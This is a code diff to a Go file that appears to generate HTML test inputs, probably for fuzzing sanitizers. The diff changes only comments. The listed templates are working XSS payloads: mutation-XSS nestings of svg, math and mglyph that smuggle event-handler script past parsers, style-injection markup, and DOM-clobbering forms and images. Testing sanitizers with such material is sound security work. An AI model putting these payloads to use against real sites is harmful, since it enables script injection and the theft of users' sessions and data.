@@ -5,9 +5,9 @@ import "strconv"
 func decimal(r rune) string     { return strconv.Itoa(int(r)) }
 func hexadecimal(r rune) string { return strconv.FormatInt(int64(r), 16) }
 
-// classes are the ways in, with holes to fill.
+// classes are templates of attacks.
 var classes = []string{
-	// what is text for one parser and markup for the next
+	// mutation XSS: text for one parser, markup for the next
 	`<svg><{raw}><img src=x {on}={js}></{raw}></svg>`,
 	`<math><mtext><table><mglyph><{raw}><!--</{raw}><img title="--&gt;&lt;img src=1 {on}={js}&gt;">`,
 	`<form><math><mtext></form><form><mglyph><style></math><img src {on}={js}>`,
@@ -50,7 +50,7 @@ var classes = []string{
 	`<p style="{css}">{text}</p>`, `<{tag} style='{css}'>{text}</{tag}>`,
 	`<style>{css}</style><p class="{name}">{text}</p>`,
 	`<div style="text-align:center;{css}">{text}</div>`,
-	// names that shadow those of the page
+	// DOM clobbering
 	`<form id="{name}"><input name="{name}"><input name=attributes></form>{text}`,
 	`<img name="{name}" id="{name}" src="/a.jpg">`, `<a id="{name}" name="{name}" href="/x">{text}</a><a id="{name}"></a>`,
 	`<h2 id="{name}">{text}</h2>`, `<pre><code class="{name} language-{name}">{js}</code></pre>`,
